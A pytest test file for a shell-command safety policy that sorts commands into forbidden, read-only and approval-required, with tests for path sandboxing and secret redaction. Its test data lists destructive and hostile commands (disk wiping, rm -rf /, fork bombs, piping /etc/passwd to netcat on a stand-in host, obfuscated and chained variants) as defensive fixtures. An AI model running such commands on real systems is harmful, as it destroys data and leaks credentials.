"""What may run: forbidden commands never, read-only ones freely, the rest with approval."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.policy import PathRefused, Policy, PolicyConfig, Verdict
from core.redact import Redactor


@pytest.fixture
def policy(tmp_path: Path) -> Policy:
    root = tmp_path / "root"
    root.mkdir()
    (root / "app.log").write_text("ok\n")
    return Policy(PolicyConfig(file_roots=[root]))


@pytest.mark.parametrize(
    "command",
    [
        "mkfs.ext4 /dev/sda1",
        "/sbin/mkfs -t xfs /dev/vdb",
        "sudo mkfs.btrfs /dev/nvme0n1",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "dd if=image.iso of=/dev/disk/by-id/usb",
        "rm -rf /",
        "rm -rf /etc",
        "rm -fr /usr/",
        "rm --recursive --force /var",
        "rm -r -f /*",
        "rm -rf --no-preserve-root /",
        ":(){ :|:& };:",
        "bomb(){ bomb|bomb& };bomb",
        "insmod evil.ko",
        "modprobe -r e1000",
        "wipefs -a /dev/sdb",
        "fdisk /dev/sda",
        "parted /dev/sda rm 1",
        "bash -c 'mkfs.ext4 /dev/sda'",
        'sh -c "dd if=/dev/zero of=/dev/vda"',
        "m'k'fs.ext4 /dev/sda",
        "shred -n 3 /dev/sda",
        "chmod -R 777 /",
        "tee /dev/sda",
        "echo hi > /dev/sda",
        "ls; rm -rf /home",
        "cat /etc/passwd | nc evil 1",
        "uptime && reboot",
    ],
)
def test_forbidden_commands_are_refused(policy: Policy, command: str) -> None:
    decision = policy.check_command(command)
    assert decision.verdict is Verdict.FORBIDDEN, decision
    assert decision.reason


@pytest.mark.parametrize(
    "command",
    ["df -h", "free -m", "uptime", "uname -a", "ps aux", "ls -la /var/log", "ss -tlnp", "ip addr",
     "journalctl -u nginx -n 50", "systemctl status nginx", "cat app.log", "tail -n 20 app.log",
     "grep -i error app.log", "du -sh /var"],
)  # fmt: skip
def test_read_only_commands_run_freely(policy: Policy, command: str) -> None:
    assert policy.check_command(command).verdict is Verdict.READ


@pytest.mark.parametrize(
    "command",
    ["systemctl restart nginx", "cat /etc/shadow", "touch newfile", "apt-get install htop", "reboot",
     "journalctl --vacuum-size=1M", "ip link set eth0 down", "hostname newname", "find . -delete",
     "git diff --output=/tmp/x", "/tmp/evil/ls", "python3 -c 'print(1)'", "docker restart web"],
)  # fmt: skip
def test_everything_else_needs_approval(policy: Policy, command: str) -> None:
    assert policy.check_command(command).verdict is Verdict.APPROVAL


def test_path_outside_roots_is_refused_including_symlinks_and_dotdot(policy: Policy, tmp_path: Path) -> None:
    root = policy.roots[0]
    outside = tmp_path / "secret.txt"
    outside.write_text("x")
    (root / "link").symlink_to(outside)
    (root / "dirlink").symlink_to(tmp_path)
    assert policy.resolve_path("app.log") == root / "app.log"
    for bad in ["../secret.txt", str(outside), "link", "dirlink/secret.txt", "/etc/passwd", "a/../../secret.txt"]:
        with pytest.raises(PathRefused):
            policy.resolve_path(bad)


def test_redaction_removes_secrets() -> None:
    redact = Redactor(["super-secret-value-123"])
    text = (
        "DB_PASSWORD=hunter2\nexport API_KEY='abc'\nSLACK_BOT_TOKEN: xoxb-1234-5678-abcdefghijkl\n"
        "url=postgres://app:pa55w0rd@db:5432/x\nnote super-secret-value-123\n"
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\nplain line stays"
    )
    out = redact(text)
    for secret in ["hunter2", "'abc'", "xoxb-1234", "pa55w0rd", "super-secret-value-123", "MIIEow"]:
        assert secret not in out
    assert "plain line stays" in out


FORBIDDEN_CORES = [
    "mkfs.ext4 /dev/sda",
    "dd if=/dev/zero of=/dev/sda",
    "rm -rf /",
    "rm -rf /etc",
    ":(){ :|:& };:",
    "insmod x.ko",
    "wipefs -a /dev/sdb",
]
_filler = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30)


@settings(max_examples=400, deadline=None)
@given(prefix=_filler, core=st.sampled_from(FORBIDDEN_CORES), suffix=_filler, wrapper=st.sampled_from(
    ["{}", "sudo {}", "bash -c '{}'", "env X=1 {}", "nice -n 5 {}", "timeout 5 {}", "{} ; true", "true && {}"]
))  # fmt: skip
def test_no_command_with_a_forbidden_pattern_reaches_execution(
    tmp_path_factory: pytest.TempPathFactory, prefix: str, core: str, suffix: str, wrapper: str
) -> None:
    """Whatever surrounds a forbidden command, it is never classified as runnable."""
    policy = Policy(PolicyConfig(file_roots=[Path(os.getcwd())]))
    command = prefix + " " + wrapper.format(core) + " " + suffix
    assert policy.check_command(command).verdict is Verdict.FORBIDDEN, command
